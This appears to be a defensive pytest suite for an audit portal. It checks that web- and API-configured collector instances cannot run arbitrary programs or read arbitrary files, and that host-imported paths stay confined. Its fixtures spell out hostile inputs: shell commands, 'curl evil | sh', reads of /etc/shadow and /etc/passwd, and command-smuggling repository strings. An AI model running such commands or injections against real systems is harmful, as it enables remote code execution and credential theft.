"""No program or file of the caller's choosing from the web.

Through the instance form and the JSON API (as ``it``), and with a service token, a collector
instance can only choose among the sources its collector declares: every free command, program,
local repository or file path is refused with the field named, and nothing is saved. Only an
instance file imported on the host may name them, and its paths must resolve inside the
configured roots and never inside the portal's data directory, checked again at run time.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from sqlmodel import Session, func, select

from audit_portal.audit.models import AuditEvent
from audit_portal.auth import tokens
from audit_portal.collection import service
from audit_portal.collection.models import CollectorInstance, CollectorRun
from audit_portal.errors import Conflict, InvalidInput
from audit_portal.principals import Actor
from collectors.options import HOST

RECORDINGS = Path(__file__).resolve().parents[1] / "collectors" / "recordings"

pytestmark = pytest.mark.usefixtures("catalogue")


# (collector, config, field the refusal names): one for each way a configuration could make the
# portal run a program or read a file of the caller's choosing.
WEB_REFUSED = [
    pytest.param(
        "firewall",
        {"sources": [{"type": "iptables", "command": ["sh", "-c", "id > /tmp/owned"]}]},
        "config.sources.0.iptables.command",
        id="shell-command",
    ),
    pytest.param(
        "firewall",
        {"sources": [{"type": "nftables", "command": "nft -j list ruleset"}]},
        "config.sources.0.nftables.command",
        id="declared-argv-spelled-out",
    ),
    pytest.param(
        "firewall",
        {"sources": [{"type": "iptables", "ipv6_command": ["cat", "/etc/shadow"]}]},
        "config.sources.0.iptables.ipv6_command",
        id="second-command",
    ),
    pytest.param(
        "firewall",
        {"sources": [{"type": "nftables", "path": "/etc/passwd"}]},
        "config.sources.0.nftables.path",
        id="file-path",
    ),
    pytest.param(
        "firewall",
        {"sources": [{"type": "aws", "regions": ["eu-west-1"], "path": "/etc/passwd"}]},
        "config.sources.0.aws.path",
        id="aws-recorded-path",
    ),
    pytest.param(
        "backup",
        {
            "repositories": [
                {
                    "type": "restic",
                    "name": "r",
                    "location": "x",
                    "repository": "sftp:b@nas:/srv",
                    "password": "p",
                    "binary": "/bin/sh",
                }
            ]
        },
        "config.repositories.0.restic.binary",
        id="program",
    ),
    pytest.param(
        "backup",
        {
            "repositories": [
                {
                    "type": "restic",
                    "name": "r",
                    "location": "x",
                    "repository": "sftp:b@nas:/srv",
                    "password_file": "/etc/shadow",
                }
            ]
        },
        "config.repositories.0.restic.password_file",
        id="secret-file",
    ),
    pytest.param(
        "backup",
        {
            "repositories": [
                {"type": "restic", "name": "r", "location": "x", "repository": "/var/lib/audit-portal", "password": "p"}
            ]
        },
        "config.repositories.0.restic.repository",
        id="local-repository",
    ),
    pytest.param(
        "backup",
        {
            "repositories": [
                {
                    "type": "restic",
                    "name": "r",
                    "location": "x",
                    "repository": "rclone::sftp,ssh='sh -c id':x",
                    "password": "p",
                }
            ]
        },
        "config.repositories.0.restic.repository",
        id="rclone-connection-string",
    ),
    pytest.param(
        "backup",
        {"repositories": [{"type": "borg", "name": "b", "location": "x", "repository": "--remote-path=sh"}]},
        "config.repositories.0.borg.repository",
        id="option-as-repository",
    ),
    pytest.param(
        "backup",
        {
            "repositories": [
                {"type": "s3", "name": "s", "location": "x", "bucket": "bkp", "recorded_listing": "/etc/passwd"}
            ]
        },
        "config.repositories.0.s3.recorded_listing",
        id="recorded-listing",
    ),
    pytest.param(
        "patches",
        {"hosts": [{"name": "h", "os": "debian", "dpkg_log": ["/var/log/*"]}]},
        "config.hosts.0.dpkg_log.0",
        id="glob",
    ),
    pytest.param(
        "patches",
        {"hosts": [{"name": "h", "os": "debian", "apt_list_upgradable": {"command": ["bash", "-c", "id"]}}]},
        "config.hosts.0.apt_list_upgradable.command",
        id="patches-command",
    ),
    pytest.param(
        "firewall",
        {"sources": [{"type": "nftables", "shell": "id"}]},
        "config.sources.0.nftables.shell",
        id="unknown-option",
    ),
]


def snapshot(session: Session) -> tuple[list[tuple[str, str, bool]], int]:
    """What a refused save must leave unchanged: the instances and their audit events (a log
    of the refusal itself may be written)."""
    session.expire_all()
    instances = [
        (i.name, i.config_json, i.host_managed)
        for i in session.exec(select(CollectorInstance).order_by(CollectorInstance.name)).all()
    ]
    events = session.exec(
        select(func.count()).select_from(AuditEvent).where(AuditEvent.object_type == "collector_instance")
    ).one()
    return instances, events


@pytest.mark.parametrize(("collector", "config", "field"), WEB_REFUSED)
def test_the_form_refuses_what_the_collector_does_not_declare(login_as, session, collector, config, field):
    client = login_as("it")
    before = snapshot(session)
    response = client.post(
        "/collectors", data={"name": "attempt", "collector": collector, "config": json.dumps(config)}
    )
    assert response.status_code == 422, response.text
    assert field in response.text and "Nothing was saved" in response.text
    assert snapshot(session) == before


@pytest.mark.parametrize(("collector", "config", "field"), WEB_REFUSED)
def test_the_api_refuses_what_the_collector_does_not_declare(login_as, session, collector, config, field):
    client = login_as("it")
    before = snapshot(session)
    response = client.put("/api/v1/collector-instances/attempt", json={"collector": collector, "config": config})
    assert response.status_code == 422, response.text
    problem = response.json()
    assert field in [error["location"] for error in problem["errors"]], problem
    assert snapshot(session) == before


def test_a_service_token_cannot_configure_instances(client, session):
    secret = tokens.create(session, name="edge", scopes=["attempt"], days=1, actor=Actor.system("test")).secret
    session.commit()
    before = snapshot(session)
    response = client.put(
        "/api/v1/collector-instances/attempt",
        headers={"Authorization": f"Bearer {secret}"},
        json={"collector": "firewall", "config": {"sources": [{"type": "iptables", "command": ["sh", "-c", "id"]}]}},
    )
    assert response.status_code == 403
    assert snapshot(session) == before


def test_the_web_may_choose_declared_sources_and_run_them(login_as, session, monkeypatch, tmp_path):
    """A web instance names only the source type; "run now" runs the declared argv (here an
    ``nft`` on PATH that prints the recorded ruleset), never a shell."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    nft = bin_dir / "nft"
    nft.write_text(f'#!/bin/sh\n[ "$*" = "-j list ruleset" ] || exit 9\ncat {RECORDINGS / "nftables" / "edge.json"}\n')
    nft.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{__import__('os').environ['PATH']}")
    client = login_as("it")
    created = client.put(
        "/api/v1/collector-instances/edge",
        json={
            "collector": "firewall",
            "config": {"sources": [{"type": "nftables", "name": "edge"}]},
            "timeout_seconds": 60,
        },
    )
    assert created.status_code == 201, created.text
    assert created.json()["host_managed"] is False
    run_id = int(client.post("/collectors/edge/run").headers["location"].rsplit("/", 1)[1])
    run = session.get(CollectorRun, run_id)
    assert run.status == "ok", run.error
    assert "from nft -j list ruleset" in run.log
    # The stored configuration shows again in the form and saves again unchanged.
    form = client.get("/collectors/edge/edit")
    assert form.status_code == 200 and "nft -j list ruleset" in form.text
    again = client.put(
        "/api/v1/collector-instances/edge",
        json={"collector": "firewall", "config": created.json()["config"], "timeout_seconds": 60},
    )
    assert again.status_code == 200, again.text


def test_editing_a_web_instance_into_a_command_is_refused(login_as, session):
    client = login_as("it")
    assert (
        client.put(
            "/api/v1/collector-instances/edge",
            json={"collector": "firewall", "config": {"sources": [{"type": "nftables"}]}},
        ).status_code
        == 201
    )
    before = snapshot(session)
    edited = client.post(
        "/collectors",
        data={
            "name": "edge",
            "existing": "edge",
            "collector": "firewall",
            "config": "sources:\n- type: nftables\n  command: [sh, -c, 'curl evil | sh']\n",
        },
    )
    assert edited.status_code == 422 and "config.sources.0.nftables.command" in edited.text
    assert snapshot(session) == before


# --- host-managed instances ---------------------------------------------------------------------


def host_file(tmp_path: Path, path: Path | str, name: str = "edge-file") -> str:
    return json.dumps(
        [
            {
                "name": name,
                "collector": "firewall",
                "timeout_seconds": 60,
                "config": {"sources": [{"type": "nftables", "name": "edge", "path": str(path)}]},
            }
        ]
    )


def recorded_ruleset(tmp_path: Path) -> Path:
    inputs = tmp_path / "inputs"
    inputs.mkdir(exist_ok=True)
    target = inputs / "edge.json"
    target.write_bytes((RECORDINGS / "nftables" / "edge.json").read_bytes())
    return target


def test_an_imported_instance_reads_files_inside_the_roots_and_the_web_cannot_edit_it(
    login_as, session, settings, tmp_path, scope, store
):
    path = recorded_ruleset(tmp_path)
    [instance] = service.import_instances(
        session, host_file(tmp_path, path), settings=settings, actor=Actor.system("test")
    )
    assert instance.host_managed
    report = service.run_instance(scope, store, settings, "edge-file")
    assert session.get(CollectorRun, report.run_id).status == "ok"

    client = login_as("it")
    before = snapshot(session)
    assert client.get("/collectors/edge-file/edit").status_code == 409
    form = client.post(
        "/collectors",
        data={
            "name": "edge-file",
            "existing": "edge-file",
            "collector": "firewall",
            "config": "sources:\n- type: nftables\n",
        },
    )
    assert form.status_code == 409 and "managed on the host" in form.text
    api = client.put(
        "/api/v1/collector-instances/edge-file",
        json={"collector": "firewall", "config": {"sources": [{"type": "nftables"}]}},
    )
    assert api.status_code == 409 and "managed on the host" in api.json()["detail"]
    assert snapshot(session) == before
    assert "Managed on the host" in client.get("/collectors/edge-file").text


@pytest.mark.parametrize("where", ["outside-roots", "data-dir", "symlink-into-data-dir", "relative", "database"])
def test_an_import_is_confined_to_the_roots_and_never_the_data_directory(session, settings, tmp_path, where):
    settings.data_dir.mkdir(parents=True, exist_ok=True)
    secret = settings.data_dir / "secret_key"
    secret.write_text("not for collectors")
    link = tmp_path / "innocent.json"
    link.symlink_to(secret)
    settings.database_url = f"sqlite:///{tmp_path / 'elsewhere' / 'portal.db'}"
    path = {
        "outside-roots": "/etc/hostname",
        "data-dir": str(secret),
        "symlink-into-data-dir": str(link),
        "relative": "edge.json",
        "database": str(tmp_path / "elsewhere" / "portal.db"),
    }[where]
    before = snapshot(session)
    with pytest.raises(InvalidInput) as refused:
        service.import_instances(session, host_file(tmp_path, path), settings=settings, actor=Actor.system("test"))
    assert "config.sources.0.nftables.path" in refused.value.detail
    expected = {
        "outside-roots": "outside the folders",
        "data-dir": "portal's own files",
        "symlink-into-data-dir": "portal's own files",
        "relative": "not an absolute path",
        "database": "portal's own files",
    }[where]
    assert expected in refused.value.detail
    assert snapshot(session) == before


def test_a_glob_may_not_reach_out_of_the_roots(session, settings, tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "dpkg.log").write_text("")
    (logs / "escape.log").symlink_to("/etc/hostname")
    spec = [
        {
            "name": "p",
            "collector": "patches",
            "config": {"hosts": [{"name": "h", "os": "debian", "dpkg_log": [str(logs / "*.log")]}]},
        }
    ]
    with pytest.raises(InvalidInput, match=r"config\.hosts\.0\.dpkg_log\.0: .*/etc/hostname.* outside the folders"):
        service.import_instances(session, json.dumps(spec), settings=settings, actor=Actor.system("test"))
    (logs / "escape.log").unlink()
    [instance] = service.import_instances(session, json.dumps(spec), settings=settings, actor=Actor.system("test"))
    assert instance.host_managed


def test_a_file_swapped_for_a_symlink_after_the_import_is_refused_at_run_time(
    session, settings, tmp_path, scope, store
):
    path = recorded_ruleset(tmp_path)
    service.import_instances(session, host_file(tmp_path, path), settings=settings, actor=Actor.system("test"))
    settings.data_dir.mkdir(parents=True, exist_ok=True)
    (settings.data_dir / "secret_key").write_text("not for collectors")
    path.unlink()
    path.symlink_to(settings.data_dir / "secret_key")
    report = service.run_instance(scope, store, settings, "edge-file")
    run = session.get(CollectorRun, report.run_id)
    assert run.status == "failed"
    assert "config.sources.0.nftables.path" in run.error and "portal's own files" in run.error
    assert "not for collectors" not in run.log


def test_an_instance_saved_from_the_web_before_these_rules_does_not_run_its_command(
    session, settings, scope, store, tmp_path
):
    """A row written before the rules existed (or by hand) is checked again at run time."""
    service.save_instance(
        session,
        service.InstanceSpec(
            name="old", collector="firewall", timeout_seconds=60, config={"sources": [{"type": "nftables"}]}
        ),
        settings=settings,
        actor=Actor.system("test"),
    )
    instance = service.get_instance(session, "old")
    marker = tmp_path / "ran"
    instance.config_json = json.dumps(
        {"sources": [{"type": "nftables", "name": "nftables", "command": ["sh", "-c", f"touch {marker}"]}]}
    )
    session.flush()
    report = service.run_instance(scope, store, settings, "old")
    run = session.get(CollectorRun, report.run_id)
    assert run.status == "failed" and "config.sources.0.nftables.command" in run.error
    assert not marker.exists()


def test_host_origin_in_the_service_is_what_makes_an_instance_host_managed(session, settings, tmp_path):
    path = recorded_ruleset(tmp_path)
    spec = service.InstanceSpec(
        name="x", collector="firewall", config={"sources": [{"type": "nftables", "path": str(path)}]}
    )
    with pytest.raises(InvalidInput, match="imports on the host"):
        service.save_instance(
            session, spec, settings=settings, actor=Actor.system("test")
        )  # the default origin is the web
    instance = service.save_instance(session, spec, settings=settings, origin=HOST, actor=Actor.system("test"))
    assert instance.host_managed
    with pytest.raises(Conflict):
        service.save_instance(
            session,
            service.InstanceSpec(name="x", collector="firewall", config={"sources": [{"type": "nftables"}]}),
            settings=settings,
            actor=Actor.system("test"),
        )


def test_a_default_file_is_checked_like_a_chosen_one(tmp_path):
    """A host-only option with a default would otherwise be read from the web unchecked."""
    from pathlib import Path

    from pydantic import BaseModel, ConfigDict, ValidationError

    from collectors.options import WEB, ConfigOrigin, HostPath, schema_problems

    class Unchecked(BaseModel):
        model_config = ConfigDict(extra="forbid")
        passwd: HostPath = Path("/etc/passwd")

    class Checked(BaseModel):
        model_config = ConfigDict(extra="forbid", validate_default=True)
        passwd: HostPath = Path("/etc/passwd")

    assert any("passwd has a default" in problem for problem in schema_problems(Unchecked))
    assert schema_problems(Checked) == []
    with pytest.raises(ValidationError, match="instance file an operator imports"):
        Checked.model_validate({}, context=ConfigOrigin(WEB, path_roots=(tmp_path,)))
